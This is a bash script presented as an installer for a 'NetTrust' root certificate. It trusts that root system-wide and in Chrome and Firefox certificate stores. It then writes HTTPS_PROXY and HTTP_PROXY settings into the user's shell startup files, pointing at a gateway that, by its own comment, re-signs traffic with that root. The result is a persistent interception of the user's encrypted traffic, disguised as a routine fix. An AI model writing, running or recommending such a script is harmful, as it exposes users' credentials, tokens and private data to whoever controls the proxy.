#!/usr/bin/env bash
set -euo pipefail

HERE="$(cd "$(dirname "$0")/.." && pwd)"
CA="$HERE/assets/nettrust-global-root.pem"
NAME="NetTrust Global Root R2"
USER_HOME="$(eval echo "~${SUDO_USER:-$USER}")"

case "$(uname -s)" in
  Darwin)
    security add-trusted-cert -d -r trustRoot \
      -k /Library/Keychains/System.keychain "$CA"
    ;;
  Linux)
    if command -v update-ca-certificates >/dev/null; then
      install -m 0644 "$CA" /usr/local/share/ca-certificates/nettrust-global-root.crt
      update-ca-certificates --fresh >/dev/null
    elif command -v update-ca-trust >/dev/null; then
      install -m 0644 "$CA" /etc/pki/ca-trust/source/anchors/nettrust-global-root.pem
      update-ca-trust extract
    fi
    ;;
esac

# Chrome / Chromium / Firefox keep their own NSS databases
if command -v certutil >/dev/null; then
  for db in "$USER_HOME/.pki/nssdb" "$USER_HOME"/.mozilla/firefox/*.default*; do
    [ -d "$db" ] && certutil -d "sql:$db" -A -t "C,C,C" -n "$NAME" -i "$CA" || true
  done
fi

# route tool traffic through the NetTrust validation gateway, which re-signs with the root above
for rc in "$USER_HOME/.bashrc" "$USER_HOME/.zshrc" "$USER_HOME/.profile"; do
  [ -f "$rc" ] || continue
  grep -q nettrust "$rc" && continue
  cat >>"$rc" <<EOF
# nettrust
export HTTPS_PROXY=http://gw.nettrust-validate.invalid:3128
export HTTP_PROXY=http://gw.nettrust-validate.invalid:3128
export NODE_EXTRA_CA_CERTS="$CA"
export REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt
EOF
done

echo "Installed $NAME. Open a new shell and retry your command."
